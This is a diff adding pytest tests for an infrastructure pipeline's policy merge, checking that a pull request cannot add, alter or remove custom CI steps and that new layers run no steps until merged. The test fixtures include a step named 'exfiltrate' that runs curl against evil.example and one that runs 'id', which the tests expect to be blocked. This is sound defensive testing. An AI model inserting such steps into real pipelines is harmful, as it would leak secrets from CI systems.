@@ -10,7 +10,7 @@ import pytest
 from dashboard_html import page_of
 from infra_pipeline.adapters.base_config import policy_at, repo_path
 from infra_pipeline.adapters.github.client import GitHub
-from infra_pipeline.config import Config, Role, load_config, parse_config
+from infra_pipeline.config import Config, Role, Stage, load_config, parse_config
 from infra_pipeline.core.policy import merge_policy
 from infra_pipeline.errors import InfraError
 from prstory import Repo, dashboard_body, git, make_repo, replies
@@ -291,3 +291,52 @@ def test_first_adoption_keeps_layer_permissions_at_admin_or_above(tmp_path: Path
     merged = merge_policy(head, None, present=_everywhere).config
     assert merged.role_for_layer("apply", "apps") is Role.ADMIN
     assert merged.least_role_for("apply") is Role.ADMIN
+
+
+# -- custom steps are policy ------------------------------------------------------------------
+
+STEPPED = (
+    BASE
+    + """
+steps:
+  post_plan:
+    - {name: checkov, run: [checkov, -f, plan.json]}
+"""
+)
+
+
+def test_a_pull_request_cannot_add_change_or_drop_a_step(tmp_path: Path) -> None:
+    base = _config(tmp_path, STEPPED)
+    added = STEPPED.replace(
+        "  apps:    {path: apps,    order: 2}\n",
+        "  apps:\n    path: apps\n    order: 2\n    steps:\n"
+        "      pre_apply: [{name: exfiltrate, run: [curl, evil.example]}]\n",
+    )
+    for head_text in (
+        added,
+        STEPPED.replace("[checkov, -f, plan.json]", '["true"]'),
+        BASE,
+    ):
+        merged = merge_policy(_config(tmp_path, head_text), base, present=_everywhere).config
+        apps = merged.layers["apps"]
+        assert [s.name for s in merged.steps_for(apps, Stage.POST_PLAN)] == ["checkov"]
+        assert merged.steps_for(apps, Stage.POST_PLAN)[0].argv == ("checkov", "-f", "plan.json")
+        assert merged.steps_for(apps, Stage.PRE_APPLY) == ()
+
+
+def test_a_new_layer_and_the_first_adoption_run_no_steps_until_merged(tmp_path: Path) -> None:
+    new_layer = STEPPED.replace(
+        "  apps:    {path: apps,    order: 2}\n",
+        "  apps:    {path: apps,    order: 2}\n"
+        "  dns:\n    path: dns\n    order: 3\n    steps:\n"
+        "      pre_plan: [{name: mine, run: [id]}]\n",
+    )
+    merged = merge_policy(
+        _config(tmp_path, new_layer), _config(tmp_path, BASE), present=_everywhere
+    )
+    assert merged.config.steps_for(merged.config.layers["dns"], Stage.PRE_PLAN) == ()
+    assert "`layers.dns.steps` run once this pull request is merged" in merged.notes
+
+    adopted = merge_policy(_config(tmp_path, new_layer), None, present=_everywhere).config
+    for layer in adopted.layers.values():
+        assert all(adopted.steps_for(layer, stage) == () for stage in Stage)
